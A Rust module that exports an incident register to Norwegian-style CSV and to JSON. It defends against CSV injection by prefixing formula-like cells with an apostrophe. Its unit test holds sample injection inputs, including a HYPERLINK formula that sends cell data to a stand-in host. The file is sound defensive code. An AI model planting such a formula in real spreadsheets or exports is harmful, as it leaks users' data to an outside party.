//! Exports of the register for spreadsheets and other tools.
//!
//! CSV is written for a Norwegian spreadsheet: UTF-8 with a byte-order mark (so Excel
//! reads æøå right), `;` between fields (`,` is the decimal sign in Norway), CRLF line
//! ends, and fields quoted when they hold `;`, `"` or a line break. A cell a spreadsheet
//! would run as a formula is made text (OWASP's advice on CSV injection). Times are shown in
//! Europe/Oslo as `YYYY-MM-DD HH:MM`; words come from the catalogues in the chosen language.

use chrono::{DateTime, Utc};

use crate::case::Case;
use crate::form::Count;
use crate::i18n::{self, Lang};
use crate::time::DISPLAY_TZ;
use crate::vocab::{CountKind, DataClass, OccurredKind};

const BOM: &str = "\u{feff}";
const SEP: char = ';';

/// The register as CSV, one row per case.
pub fn register_csv(cases: &[Case], lang: Lang) -> String {
    let header = [
        "reference",
        "status",
        "title",
        "systems",
        "incident_type",
        "nature",
        "cause",
        "personal_data",
        "data_categories",
        "flags",
        "data_subjects",
        "subjects_count",
        "records_count",
        "occurred",
        "discovered_at",
        "created_at",
        "submitted_at",
        "reporter",
    ];
    let mut out = String::from(BOM);
    push_row(
        &mut out,
        header
            .iter()
            .map(|h| i18n::text(lang, &format!("csv.{h}")).to_owned()),
    );
    for c in cases {
        let f = &c.form;
        let labels = |prefix: &str, keys: Vec<&str>| -> String {
            keys.into_iter()
                .map(|k| i18n::label(lang, prefix, k))
                .collect::<Vec<_>>()
                .join(", ")
        };
        let one = |prefix: &str, key: Option<&str>| {
            key.map(|k| i18n::label(lang, prefix, k))
                .unwrap_or_default()
        };
        let mut flags: Vec<&str> = f
            .data_categories
            .iter()
            .filter_map(|c| match c.class() {
                DataClass::Ordinary => None,
                DataClass::Special => Some("data.class.special"),
                DataClass::Criminal => Some("data.class.criminal"),
                DataClass::NationalId => Some("data.class.national_id"),
            })
            .collect();
        flags.dedup();
        let occurred = f.occurred.map(|o| {
            let kind = i18n::label(lang, "occurred_kind", o.kind.key());
            match o.kind {
                OccurredKind::Unknown => kind,
                _ => {
                    let times = [o.from, o.to]
                        .into_iter()
                        .flatten()
                        .map(local)
                        .collect::<Vec<_>>()
                        .join(" – ");
                    format!("{kind}: {times}")
                }
            }
        });
        let reporter = if f.anonymous {
            i18n::text(lang, "review.anonymous").to_owned()
        } else {
            f.reporter
                .as_ref()
                .and_then(|r| r.name.clone())
                .unwrap_or_default()
        };
        push_row(
            &mut out,
            [
                c.reference.map(|r| r.to_string()).unwrap_or_default(),
                i18n::label(lang, "status", c.status.as_str()),
                f.title.clone().unwrap_or_default(),
                f.systems.join(", "),
                one("incident_type", f.incident_type.map(|t| t.key())),
                labels("nature", f.nature.iter().map(|n| n.key()).collect()),
                one("cause", f.cause.map(|c| c.key())),
                one("personal_data", f.personal_data.map(|p| p.key())),
                labels(
                    "data_category",
                    f.data_categories.iter().map(|d| d.key()).collect(),
                ),
                flags
                    .iter()
                    .map(|k| i18n::text(lang, k))
                    .collect::<Vec<_>>()
                    .join(", "),
                labels(
                    "data_subject",
                    f.data_subjects.iter().map(|d| d.key()).collect(),
                ),
                count(f.subjects_count, lang),
                count(f.records_count, lang),
                occurred.unwrap_or_default(),
                f.discovered_at.map(local).unwrap_or_default(),
                local(c.created_at),
                c.submitted_at.map(local).unwrap_or_default(),
                reporter,
            ],
        );
    }
    out
}

/// The register as a JSON array: the same objects `avvik case list` prints.
pub fn register_json(cases: &[Case]) -> String {
    serde_json::to_string_pretty(cases).expect("cases always serialise") + "\n"
}

fn count(c: Option<Count>, lang: Lang) -> String {
    match c {
        None => String::new(),
        Some(Count {
            kind: CountKind::Unknown,
            ..
        }) => i18n::label(lang, "count_kind", "unknown"),
        Some(Count { kind, value }) => {
            let n = value.unwrap_or_default();
            match kind {
                CountKind::Exact => n.to_string(),
                _ => format!("{} {n}", i18n::label(lang, "count_kind", kind.key())),
            }
        }
    }
}

fn local(t: DateTime<Utc>) -> String {
    t.with_timezone(&DISPLAY_TZ)
        .format("%Y-%m-%d %H:%M")
        .to_string()
}

/// A cell that a spreadsheet would read as a formula (OWASP's «CSV injection»): its
/// first character is `=`, `+`, `-` or `@` (spreadsheets skip leading spaces before
/// deciding), or a tab or carriage return. Such a cell gets a leading `'`, which makes
/// it text in Excel and LibreOffice, and is quoted.
fn neutralised(field: String) -> String {
    let lead = field.trim_start_matches([' ', '\u{a0}', '\u{3000}']);
    let formula = lead.starts_with(['=', '+', '-', '@', '\t', '\r'])
        || lead.starts_with(['＝', '＋', '－', '＠']);
    if formula { format!("'{field}") } else { field }
}

fn push_row(out: &mut String, fields: impl IntoIterator<Item = String>) {
    let mut first = true;
    for field in fields {
        if !first {
            out.push(SEP);
        }
        first = false;
        let field = neutralised(field);
        if field.contains([SEP, '"', '\n', '\r', '\t']) || field.starts_with('\'') {
            out.push('"');
            out.push_str(&field.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&field);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;
    use serde_json::json;

    use super::*;
    use crate::case::CaseStatus;
    use crate::form::CaseDocument;
    use crate::reference::Reference;

    fn case() -> Case {
        let mut form = CaseDocument::from_value(crate::form::tests::complete()).unwrap();
        form.title = Some("Lønnsslipper; «feil» mottaker".into());
        form.description = Some("Linje 1\nLinje 2".into());
        let t = Utc.with_ymd_and_hms(2026, 11, 20, 10, 0, 0).unwrap();
        Case {
            id: uuid::Uuid::nil(),
            created_by: None,
            reference: Some(Reference {
                year: 2026,
                seq: 1,
                drill: false,
            }),
            status: CaseStatus::Reported,
            created_at: t,
            updated_at: t,
            submitted_at: Some(t),
            anonymised_at: None,
            warnings: vec![],
            notices: vec![],
            clock: None,
            clock_inputs: None,
            form,
        }
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_text() {
        let mut out = String::new();
        push_row(
            &mut out,
            [
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Klikk\")",
                "=1+2",
                " =1+1",
                "+47 22 00 00 00",
                "-3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "＝1+1",
                "Kundeliste = eksportert",
                "e-post",
            ]
            .map(String::from),
        );
        let cells: Vec<&str> = out.trim_end_matches("\r\n").split(SEP).collect();
        assert_eq!(
            cells,
            [
                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Klikk\"\")\"",
                "\"'=1+2\"",
                "\"' =1+1\"",
                "\"'+47 22 00 00 00\"",
                "\"'-3\"",
                "\"'@SUM(A1)\"",
                "\"'\t=1\"",
                "\"'\r=1\"",
                "\"'＝1+1\"",
                "Kundeliste = eksportert",
                "e-post",
            ]
        );
    }

    #[test]
    fn csv_opens_in_a_norwegian_spreadsheet() {
        let csv = register_csv(&[case()], Lang::Nb);
        assert!(csv.starts_with('\u{feff}'), "byte-order mark first");
        let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').split("\r\n").collect();
        assert!(
            lines[0].starts_with("Referanse;Status;Tittel;Systemer;Hvordan det skjedde"),
            "{}",
            lines[0]
        );
        let row = lines[1];
        assert!(
            row.starts_with(
                "AVVIK-2026-0001;Meldt;\"Lønnsslipper; «feil» mottaker\";Microsoft 365;"
            ),
            "{row}"
        );
        assert!(
            row.contains("Sendt til feil mottaker (e-post eller post)"),
            "{row}"
        );
        // 10:00 UTC in November is 11:00 in Oslo.
        assert!(row.contains(";2026-11-20 11:00;"), "{row}");
        assert!(row.contains(";3;Omtrent 3;"), "{row}");
        assert!(row.contains(";Åse Bjørnstad"), "{row}");
        assert_eq!(lines.len(), 3, "header, one row, and the final line end");
    }

    #[test]
    fn csv_speaks_english_when_asked_and_flags_protected_data() {
        let mut c = case();
        c.form
            .data_categories
            .push(crate::vocab::DataCategory::Health);
        let csv = register_csv(&[c], Lang::En);
        assert!(csv.contains("Reference;Status;Title"), "{csv}");
        assert!(csv.contains("Special category"), "{csv}");
    }

    #[test]
    fn json_is_the_list_format() {
        let json: serde_json::Value = serde_json::from_str(&register_json(&[case()])).unwrap();
        assert_eq!(json[0]["reference"], json!("AVVIK-2026-0001"));
        assert_eq!(json[0]["title"], json!("Lønnsslipper; «feil» mottaker"));
    }
}
